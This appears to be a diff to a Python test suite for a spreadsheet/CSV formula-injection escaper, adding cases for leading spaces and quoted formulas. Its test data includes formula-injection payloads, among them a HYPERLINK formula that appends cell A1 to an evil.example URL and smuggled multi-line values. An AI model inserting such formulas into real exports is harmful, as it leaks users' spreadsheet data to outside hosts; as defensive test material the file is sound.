@@ -26,6 +26,8 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'
         ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
         ("\t=1+1", "'\t'=1+1"),
         ("\r=1+1", "'\r'=1+1"),
+        ("  =1+1", "  '=1+1"),
+        ('"=1+1"', '"\'=1+1"'),
         ("-0.50", "-0.50"),
         ("+1,5", "+1,5"),
         ("Een gewone notitie = goed", "Een gewone notitie = goed"),
@@ -45,6 +47,8 @@ SMUGGLED = [
     "a|@SUM(A1)",
     'eerste regel\r\n=HYPERLINK("http://evil.example")',
     'eerste regel\n"=1+2',
+    ' =HYPERLINK("http://evil.example")',  # an importer that trims spaces
+    '"=1+2',
 ]
 NUMBERS = [3.5, -0.5, 7, -2, date(2026, 12, 1), datetime(2026, 12, 1, 9, 30, tzinfo=UTC)]
 
